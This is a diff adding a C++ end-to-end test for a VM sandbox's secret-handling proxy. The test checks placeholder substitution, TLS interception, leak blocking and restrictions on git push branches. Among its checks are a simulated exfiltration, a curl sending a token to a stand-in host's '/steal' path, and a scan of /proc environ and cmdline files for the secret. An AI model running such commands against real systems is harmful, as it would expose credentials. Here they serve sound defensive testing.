@@ -1,0 +1,297 @@
+// Secrets end to end with a real VM (issue 15): the guest gets a placeholder, never the value;
+// the proxy terminates TLS for the secret's host with abox's CA (which the guest trusts), swaps
+// the value in, scrubs it out of responses, refuses the placeholder in clear to another host,
+// adds the token to git requests and refuses pushes to branches the sandbox may not push to.
+// The upstream is a loopback server (tests/e2e/testdata/secret_upstream.py) with its own test
+// CA, reached through aboxd's test-only resolver override and trusted through
+// --test-upstream-ca. One sandbox serves every check (a boot costs seconds under TCG).
+#include <netinet/in.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <algorithm>
+#include <chrono>
+#include <filesystem>
+#include <fstream>
+#include <sstream>
+#include <thread>
+
+#include "absl/strings/str_cat.h"
+#include "absl/strings/str_split.h"
+#include "absl/strings/strip.h"
+#include "gmock/gmock.h"
+#include "gtest/gtest.h"
+#include "nlohmann/json.hpp"
+#include "src/base/child_process.h"
+#include "tests/testing/abox_runner.h"
+#include "tests/testing/aboxd_process.h"
+
+namespace abox::testing {
+namespace {
+
+namespace fs = std::filesystem;
+using ::testing::HasSubstr;
+using ::testing::Not;
+
+constexpr char kApi[] = "api.secret.test";
+constexpr char kGit[] = "git.secret.test";
+constexpr char kOther[] = "other.secret.test";
+constexpr char kValue[] = "real-value-7f3a9c2e51d84b06";
+
+int FreePort() {
+  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  sockaddr_in a{};
+  a.sin_family = AF_INET;
+  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  socklen_t len = sizeof(a);
+  ::bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof(a));
+  ::getsockname(fd, reinterpret_cast<sockaddr*>(&a), &len);
+  ::close(fd);
+  return ntohs(a.sin_port);
+}
+
+bool WaitForPort(int port) {
+  for (int i = 0; i < 100; ++i) {
+    int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    sockaddr_in a{};
+    a.sin_family = AF_INET;
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    a.sin_port = htons(static_cast<uint16_t>(port));
+    bool ok = ::connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof(a)) == 0;
+    ::close(fd);
+    if (ok) {
+      return true;
+    }
+    std::this_thread::sleep_for(std::chrono::milliseconds(100));
+  }
+  return false;
+}
+
+std::string ReadAll(const fs::path& path) {
+  std::ifstream in(path, std::ios::binary);
+  std::stringstream s;
+  s << in.rdbuf();
+  return s.str();
+}
+
+int Sh(const std::string& script) {
+  return std::system(absl::StrCat("sh -ec '", script, "' >/dev/null 2>&1").c_str());  // NOLINT
+}
+
+class SecretsE2eTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    dir_ = fs::path(home_.path()) / "upstream";
+    fs::create_directories(dir_ / "repos");
+    const std::string d = dir_.string();
+    // A test CA and a leaf for the api and git names, as a real forge would have.
+    std::ofstream(dir_ / "ext.cnf") << "subjectAltName=DNS:" << kApi << ",DNS:" << kGit << "\n";
+    ASSERT_EQ(Sh(absl::StrCat(
+                  "cd ", d,
+                  "; openssl req -x509 -newkey rsa:2048 -nodes -days 1 -subj /CN=abox-test-ca "
+                  "-addext basicConstraints=critical,CA:TRUE -addext keyUsage=critical,keyCertSign "
+                  "-keyout ca.key -out ca.pem; openssl req -newkey rsa:2048 -nodes -subj /CN=",
+                  kApi,
+                  " -keyout leaf.key -out leaf.csr; openssl x509 -req -in leaf.csr -CA ca.pem "
+                  "-CAkey ca.key -CAcreateserial -days 1 -extfile ext.cnf -out leaf.pem")),
+              0);
+    // The forge's repository, which pushes may update.
+    ASSERT_EQ(Sh(absl::StrCat("git init -q --bare ", d, "/repos/acme/app.git; git -C ", d,
+                              "/repos/acme/app.git config http.receivepack true")),
+              0);
+    https_port_ = FreePort();
+    http_port_ = FreePort();
+    auto server = base::ChildProcess::Spawn(
+        {.argv = {"python3", ABOX_SECRET_UPSTREAM, (dir_ / "requests.jsonl").string(),
+                  (dir_ / "repos").string(), std::to_string(https_port_),
+                  std::to_string(http_port_), (dir_ / "leaf.pem").string(),
+                  (dir_ / "leaf.key").string()}});
+    ASSERT_TRUE(server.ok()) << server.status();
+    server_ = *std::move(server);
+    ASSERT_TRUE(WaitForPort(https_port_));
+    ASSERT_TRUE(WaitForPort(http_port_));
+    fs::path override_file = fs::path(home_.path()) / "resolver-override.json";
+    nlohmann::json names = nlohmann::json::object();
+    for (const char* name : {kApi, kGit, kOther}) {
+      names[name] = {"127.0.0.1"};
+    }
+    std::ofstream(override_file) << names.dump();
+    daemon_ = std::make_unique<AboxdProcess>(home_);
+    ASSERT_TRUE(daemon_
+                    ->Start({"--test-resolver-override", override_file.string(),
+                             "--test-upstream-ca", (dir_ / "ca.pem").string()})
+                    .ok())
+        << daemon_->Log();
+  }
+  void TearDown() override {
+    RemoveAllSandboxes([this](std::vector<std::string> args) { return Abox(std::move(args)); });
+    (void)daemon_->Stop();
+  }
+
+  AboxResult Abox(std::vector<std::string> args, std::map<std::string, std::string> env = {}) {
+    AboxCall call;
+    call.args = std::move(args);
+    call.env = home_.Env();
+    call.env["ABOX_NO_AUTOSTART"] = "1";
+    for (auto& [k, v] : env) {
+      call.env[k] = v;
+    }
+    call.timeout_seconds = 300;
+    return RunAbox(call);
+  }
+
+  // A shell command in the sandbox; returns stdout + stderr + "exit=N".
+  std::string Guest(const std::string& id, const std::string& script, bool root = false) {
+    std::vector<std::string> args = {"exec", id};
+    if (root) {
+      args.push_back("--root");
+    }
+    args.insert(args.end(), {"--", "sh", "-c", script + "; echo exit=$?"});
+    AboxResult r = Abox(args);
+    return r.out + r.err;
+  }
+
+  // The requests the upstream received.
+  std::vector<nlohmann::json> Requests() {
+    std::vector<nlohmann::json> out;
+    for (absl::string_view line :
+         absl::StrSplit(ReadAll(dir_ / "requests.jsonl"), '\n', absl::SkipEmpty())) {
+      out.push_back(nlohmann::json::parse(line));
+    }
+    return out;
+  }
+
+  std::string Https(const char* name) { return absl::StrCat("https://", name, ":", https_port_); }
+  std::string HostPort(const char* name, int port) { return absl::StrCat(name, ":", port); }
+
+  DaemonHome home_;
+  fs::path dir_;
+  std::unique_ptr<AboxdProcess> daemon_;
+  base::ChildProcess server_;
+  int https_port_ = 0;
+  int http_port_ = 0;
+};
+
+TEST_F(SecretsE2eTest, TheGuestHoldsAPlaceholderAndTheBoundHostGetsTheValue) {
+  AboxResult set =
+      Abox({"secret", "set", "TOK", "--host",
+            absl::StrCat(HostPort(kApi, https_port_), ",", HostPort(kGit, https_port_)),
+            "--from-env", "TOK_VALUE"},
+           {{"TOK_VALUE", kValue}});
+  ASSERT_EQ(set.exit_code, 0) << set.err;
+  AboxResult created = Abox({"create", "--json", "--secret", "TOK", "--git-push",
+                             absl::StrCat(HostPort(kGit, https_port_), "/acme/app:agent/*"),
+                             "--egress", "allowlist", "--allow", HostPort(kOther, http_port_)});
+  ASSERT_EQ(created.exit_code, 0) << created.err;
+  std::string id = nlohmann::json::parse(created.out)["id"];
+  EXPECT_EQ(nlohmann::json::parse(created.out)["secrets"], nlohmann::json({{"TOK", "TOK"}}));
+
+  // 1. curl with the placeholder: the upstream gets the real value (over TLS the guest trusted:
+  //    abox's CA is in its bundle), and its echo of it comes back as the placeholder.
+  std::string placeholder = Guest(id, "printf '%s' \"$TOK\"");
+  ASSERT_THAT(placeholder, HasSubstr("ABOX_SECRET_TOK_"));
+  placeholder = placeholder.substr(0, placeholder.find("exit="));
+  std::string echoed =
+      Guest(id, absl::StrCat("curl -sS -H \"Authorization: Bearer $TOK\" ", Https(kApi), "/echo"));
+  EXPECT_THAT(echoed, HasSubstr(absl::StrCat("you sent: Bearer ", placeholder)));
+  EXPECT_THAT(echoed, HasSubstr("exit=0"));
+  EXPECT_THAT(echoed, Not(HasSubstr(kValue)));
+  bool upstream_saw_value = false;
+  for (const nlohmann::json& r : Requests()) {
+    if (r["path"] == "/echo") {
+      upstream_saw_value |=
+          r["headers"].value("Authorization", "") == absl::StrCat("Bearer ", kValue);
+      EXPECT_THAT(r.dump(), Not(HasSubstr("ABOX_SECRET_")));
+    }
+  }
+  EXPECT_TRUE(upstream_saw_value);
+
+  // 2. The same placeholder in clear to another allowed host: refused, logged, an event.
+  std::string leaked = Guest(id, absl::StrCat("curl -sS -i -H \"X-Token: $TOK\" http://",
+                                              HostPort(kOther, http_port_), "/steal"));
+  EXPECT_THAT(leaked, HasSubstr("403"));
+  EXPECT_THAT(leaked, HasSubstr("TOK"));
+  for (const nlohmann::json& r : Requests()) {
+    EXPECT_NE(r["path"], "/steal") << "the leak reached the upstream";
+  }
+  AboxResult log = Abox({"egress", "log", id, "--json"});
+  EXPECT_THAT(log.out, HasSubstr("TOK"));
+  EXPECT_THAT(log.out, Not(HasSubstr(kValue)));
+  // The event stream, replayed (curl ends it after 3 s: it follows for ever otherwise).
+  std::string events_file = (dir_ / "events.txt").string();
+  std::system(absl::StrCat("curl -sS --max-time 3 --unix-socket '", home_.socket(),  // NOLINT
+                           "' 'http://abox/v1/events?since=0&sandbox=", id, "' > '", events_file,
+                           "' 2>/dev/null")
+                  .c_str());
+  std::string events = ReadAll(events_file);
+  EXPECT_THAT(events, HasSubstr("secret_leak_blocked"));
+  EXPECT_THAT(events, Not(HasSubstr(kValue)));
+
+  // 3. git: a push to an allowed branch succeeds with the token the host added; one to another
+  //    branch is refused with a message git shows.
+  std::string repo = absl::StrCat(Https(kGit), "/acme/app.git");
+  std::string git = absl::StrCat(
+      "cd /tmp && rm -rf w && mkdir w && cd w && git init -q && git config user.email a@b && "
+      "git config user.name a && echo hi > f && git add f && git commit -qm one && ");
+  std::string ok_push = Guest(id, git + "git push " + repo + " HEAD:refs/heads/agent/fix 2>&1");
+  EXPECT_THAT(ok_push, HasSubstr("exit=0")) << ok_push;
+  EXPECT_EQ(Sh(absl::StrCat("git -C ", (dir_ / "repos/acme/app.git").string(),
+                            " rev-parse --verify agent/fix")),
+            0)
+      << "the forge did not get the branch";
+  std::string refused = Guest(id, git + "git push " + repo + " HEAD:refs/heads/main 2>&1");
+  EXPECT_THAT(refused, Not(HasSubstr("exit=0")));
+  EXPECT_THAT(refused, HasSubstr("abox"));
+  EXPECT_NE(Sh(absl::StrCat("git -C ", (dir_ / "repos/acme/app.git").string(),
+                            " rev-parse --verify main")),
+            0)
+      << "the refused push reached the forge";
+  bool token_added = false;
+  for (const nlohmann::json& r : Requests()) {
+    std::string auth = r["headers"].value("Authorization", "");
+    if (absl::StrContains(r["path"].get<std::string>(), "git-receive-pack") && !auth.empty()) {
+      token_added = true;
+      EXPECT_THAT(auth, ::testing::StartsWith("Basic "));
+    }
+  }
+  EXPECT_TRUE(token_added);
+
+  // 4. The real value is nowhere in the guest: environments and command lines of every
+  //    process, files, and its disk. (The value is split in two here: a command line holding it
+  //    whole is refused before it reaches the VM.)
+  const std::string value(kValue);
+  std::string search = Guest(
+      id,
+      absl::StrCat("a='", value.substr(0, 12), "'; b='", value.substr(12),
+                   "'; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | grep -c -a "
+                   "\"$a$b\"; grep -r -l -a \"$a$b\" /etc /root /home /tmp /var /workspace "
+                   "2>/dev/null | head -3; sync"),
+      /*root=*/true);
+  EXPECT_THAT(search, HasSubstr("0\n"));
+  EXPECT_THAT(search, Not(HasSubstr("/")));
+  auto no_value_under = [&](const fs::path& root, const std::vector<std::string>& skip) {
+    int files = 0;
+    for (auto it = fs::recursive_directory_iterator(root); it != fs::recursive_directory_iterator();
+         ++it) {
+      std::string name = it->path().filename().string();
+      if (std::find(skip.begin(), skip.end(), name) != skip.end()) {
+        it.disable_recursion_pending();
+        continue;
+      }
+      if (!it->is_symlink() && it->is_regular_file()) {
+        ++files;
+        EXPECT_THAT(ReadAll(it->path()), Not(HasSubstr(kValue))) << it->path();
+      }
+    }
+    return files;
+  };
+  // The running sandbox's files: its copy-on-write disk (synced above), console log, sockets.
+  EXPECT_GT(no_value_under(fs::path(home_.path()) / "sandboxes" / id, {}), 0);
+  ASSERT_EQ(Abox({"stop", id}).exit_code, 0);
+  // After it stopped: nothing of the home holds it (state.db, logs, workspaces) but the 0600
+  // value store, which is where it lives.
+  no_value_under(home_.path(), {"secrets", "upstream", "images"});
+}
+
+}  // namespace
+}  // namespace abox::testing
